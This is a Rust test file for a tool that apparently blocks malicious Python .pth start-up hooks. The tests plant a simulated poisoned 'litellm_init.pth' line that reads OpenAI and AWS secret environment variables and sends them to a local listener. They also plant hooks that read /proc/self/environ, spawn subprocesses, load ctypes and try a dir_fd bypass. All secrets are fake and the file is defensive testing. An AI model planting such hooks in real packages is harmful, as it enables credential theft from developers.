//! The simulated attack: a `.pth` import line that reads fake secrets the test set and posts
//! them to a listener the test started on 127.0.0.1. Unguarded, the listener gets them (so the
//! test can fail); under `sitegate exec` it gets nothing and the program runs intact.

use std::io::Read;
use std::net::TcpListener;
use std::sync::mpsc;
use std::time::Duration;

use sitegate_tests::{pythons, run, OutputText, Sandbox};

/// A listener on 127.0.0.1 that collects whatever arrives until the receiver asks.
struct Listener {
    port: u16,
    received: mpsc::Receiver<Vec<u8>>,
}

impl Listener {
    fn start() -> Listener {
        let socket = TcpListener::bind("127.0.0.1:0").unwrap();
        socket.set_nonblocking(true).unwrap();
        let port = socket.local_addr().unwrap().port();
        let (sender, received) = mpsc::channel();
        std::thread::spawn(move || {
            let deadline = std::time::Instant::now() + Duration::from_secs(60);
            while std::time::Instant::now() < deadline {
                match socket.accept() {
                    Ok((mut stream, _)) => {
                        stream.set_nonblocking(false).unwrap();
                        stream
                            .set_read_timeout(Some(Duration::from_secs(5)))
                            .unwrap();
                        let mut data = Vec::new();
                        let _ = stream.read_to_end(&mut data);
                        if sender.send(data).is_err() {
                            return;
                        }
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        Listener { port, received }
    }

    /// Everything received so far (after the program has exited).
    fn drain(&self) -> Vec<Vec<u8>> {
        std::thread::sleep(Duration::from_millis(200));
        self.received.try_iter().collect()
    }
}

fn payload(port: u16) -> String {
    format!(
        "import os, socket; s = socket.create_connection(('127.0.0.1', {port}), 3); \
         s.sendall((os.environ.get('OPENAI_API_KEY', '') + ':' + os.environ.get('AWS_SECRET_ACCESS_KEY', '')).encode()); s.close()\n"
    )
}

#[test]
fn poisoned_pth_is_denied_and_the_program_runs() {
    for python in pythons() {
        let sandbox = Sandbox::new();
        let venv = sandbox.venv(&python, "venv", false);
        let listener = Listener::start();
        let hook = venv.write(
            "litellm_init.pth",
            format!("# harmless stand-in\n{}", payload(listener.port)),
        );
        let program = ["-c", "import sys; print('program output'); sys.exit(7)"];

        run(sandbox
            .command(&venv.python)
            .args(program)
            .env("OPENAI_API_KEY", "sk-fake-openai")
            .env("AWS_SECRET_ACCESS_KEY", "fake-aws-secret"));
        let leaked = listener.drain();
        assert!(
            leaked
                .iter()
                .any(|d| d == b"sk-fake-openai:fake-aws-secret"),
            "{}: unguarded start did not run the hook ({leaked:?}); the test would prove nothing",
            python.label
        );

        let guarded = run(sandbox
            .sitegate()
            .arg("exec")
            .arg("--")
            .arg(&venv.python)
            .args(program)
            .env("OPENAI_API_KEY", "sk-fake-openai")
            .env("AWS_SECRET_ACCESS_KEY", "fake-aws-secret"));
        let received = listener.drain();
        assert!(
            received.is_empty(),
            "{}: the listener received {received:?}",
            python.label
        );
        assert_eq!(
            guarded.stdout_text(),
            "program output\n",
            "{}",
            python.label
        );
        assert_eq!(
            guarded.status.code(),
            Some(7),
            "{}: {}",
            python.label,
            guarded.stderr_text()
        );
        let location = format!("{}:2", hook.display());
        assert!(
            guarded.stderr_text().contains(&location),
            "{}: stderr does not name {location}: {}",
            python.label,
            guarded.stderr_text()
        );
        assert!(
            guarded.stderr_text().contains("unknown-code-hook"),
            "{}",
            guarded.stderr_text()
        );
    }
}

#[test]
fn a_hook_changed_after_the_check_does_not_run() {
    // The plan carries the verified bytes: rewriting an allowed file between the check and
    // the start changes nothing. Simulated by planning once, then rewriting the file and
    // starting the interpreter with the same plan.
    let Some(python) = pythons().into_iter().find(|p| p.version >= (3, 11)) else {
        eprintln!("skipping: no Python 3.11+");
        return;
    };
    let sandbox = Sandbox::new();
    let venv = sandbox.venv(&python, "venv", false);
    let marker = sandbox.path().join("ran");
    let path_dir = sandbox.path().join("extra");
    std::fs::create_dir(&path_dir).unwrap();
    let pth = venv.write("paths.pth", format!("{}\n", path_dir.display()));
    let capture = run(sandbox.guarded(None, &venv.python).args([
        "-c",
        "import os; print(os.environ['SITEGATE_PLAN']); print(os.environ['LD_PRELOAD'])",
    ]));
    let text = capture.stdout_text();
    let mut lines = text.lines();
    let (plan, preload) = (
        lines.next().unwrap().to_owned(),
        lines.next().unwrap().to_owned(),
    );
    std::fs::write(
        &pth,
        format!(
            "import pathlib; pathlib.Path({:?}).write_text('x')\n",
            marker.display().to_string()
        ),
    )
    .unwrap();
    let started = run(sandbox
        .command(&venv.python)
        .args(["-c", "import sys; print(sys.path[-1])"])
        .env("SITEGATE_PLAN", plan)
        .env("LD_PRELOAD", preload));
    assert!(
        !marker.exists(),
        "the rewritten line ran: {}",
        started.stderr_text()
    );
    assert_eq!(started.stdout_text().trim(), path_dir.display().to_string());
}

#[test]
fn hooks_allowed_natively_run_under_the_audit_guard() {
    for python in pythons() {
        let sandbox = Sandbox::new();
        let venv = sandbox.venv(&python, "venv", false);
        let listener = Listener::start();
        let port = listener.port;
        let marker = |name: &str| sandbox.path().join(format!("got-through-{name}"));
        // One file per attempt (`site` skips the rest of a file after a failing line); each
        // writes its marker only if the attempt got through.
        let attempts = [
            ("socket", format!("import socket; socket.create_connection(('127.0.0.1', {port}), 3).sendall(b'hook')")),
            ("environ", "open('/proc/self/environ', 'rb').read()".to_owned()),
            ("subprocess", "import subprocess; subprocess.run(['true'])".to_owned()),
            ("system", "import os; os.system('true')".to_owned()),
            ("ctypes", "import ctypes; ctypes.CDLL(None)".to_owned()),
            // A path relative to a descriptor of `/proc` does not name `/proc` itself.
            (
                "dirfd",
                "import os; os.read(os.open('self/environ', os.O_RDONLY, \
                 dir_fd=os.open('/proc', os.O_RDONLY)), 100)"
                    .to_owned(),
            ),
            // A nested run of the guarded `addpackage` must not end the guard of this line.
            (
                "nested",
                format!(
                    "import site, socket; site.addpackage(sitedir, 'guarded-socket.pth', set()); \
                     socket.create_connection(('127.0.0.1', {port}), 3).sendall(b'nested')"
                ),
            ),
        ];
        for (name, attempt) in &attempts {
            venv.write(
                &format!("guarded-{name}.pth"),
                format!(
                    "import sys; exec({attempt:?}); open({:?}, 'w').close()\n",
                    marker(name).display().to_string()
                ),
            );
        }
        let policy = sandbox.path().join("policy.toml");
        std::fs::write(
            &policy,
            "[[allow]]\nfile = \"guarded-*.pth\"\nmode = \"native\"\n",
        )
        .unwrap();
        // After the start-up hooks the guard is inert: the program itself may connect.
        let program = format!(
            "import socket; socket.create_connection(('127.0.0.1', {port}), 3).sendall(b'program'); print('program ran')"
        );
        let guarded = run(sandbox
            .guarded(Some(&policy), &venv.python)
            .args(["-c", &program]));
        let label = &python.label;
        assert_eq!(
            guarded.stdout_text(),
            "program ran\n",
            "{label}: {}",
            guarded.stderr_text()
        );
        for (name, _) in &attempts {
            assert!(!marker(name).exists(), "{label}: `{name}` got through");
        }
        let stderr = guarded.stderr_text();
        for event in [
            "socket.getaddrinfo",
            "subprocess.Popen",
            "os.system",
            "ctypes.dlopen",
            "open",
        ] {
            assert!(
                stderr.contains(&format!("a start-up hook may not do `{event}`")),
                "{label}: {event}: {stderr}"
            );
        }
        assert_eq!(listener.drain(), [b"program".to_vec()], "{label}");

        // Without sitegate every attempt gets through: the test can fail.
        let plain = run(sandbox.command(&venv.python).args(["-c", "pass"]));
        for (name, _) in &attempts {
            assert!(
                marker(name).exists(),
                "{label}: `{name}` failed natively: {}",
                plain.stderr_text()
            );
        }
        // (`site` reads a venv's site-packages twice, so the hook may connect twice.)
        let received = listener.drain();
        assert!(
            !received.is_empty() && received.iter().all(|r| r == b"hook" || r == b"nested"),
            "{label}: {received:?}"
        );
    }
}
